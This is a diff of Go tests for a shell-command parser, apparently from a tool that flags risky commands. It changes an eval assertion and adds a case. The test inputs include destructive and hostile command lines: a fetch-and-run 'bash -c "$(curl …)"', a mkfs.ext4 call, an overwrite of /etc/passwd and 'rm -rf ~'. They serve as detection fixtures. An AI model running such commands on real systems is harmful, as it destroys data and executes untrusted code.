@@ -436,8 +436,12 @@ func TestParseArgvFollowsShellStrings(t *testing.T) {
 	for _, c := range sh.Commands {
 		names = append(names, c.Name)
 	}
-	if strings.Join(names, " ") != "sh sh mkfs.ext4" || !sh.Eval {
+	if strings.Join(names, " ") != "sh sh mkfs.ext4" || sh.Eval {
 		t.Fatalf("commands %v eval %v", names, sh.Eval)
+	}
+	// Code built at run time is eval; a literal string is what it says.
+	if sh := ParseArgv([]string{"sh", "-c", `bash -c "$(curl -s x)"`}); !sh.Eval {
+		t.Fatalf("bash -c \"$(curl …)\": eval %v", sh.Eval)
 	}
 }
 
@@ -536,7 +540,7 @@ func TestDerivedShell(t *testing.T) {
 		"> /etc/passwd; x=$(< /etc/hostname) 2>/dev/null", "export DOCKER_HOST=x; bash <<< 'rm -rf ~'",
 	} {
 		sh := ParseShell(line)
-		b.index(&sh)
+		b.index(&sh, nil)
 		rs, err := pq.Eval(context.Background(), rego.EvalInput(sh.Commands))
 		if err != nil || len(rs) != 1 {
 			t.Fatalf("%q: helper: %v %v", line, rs, err)
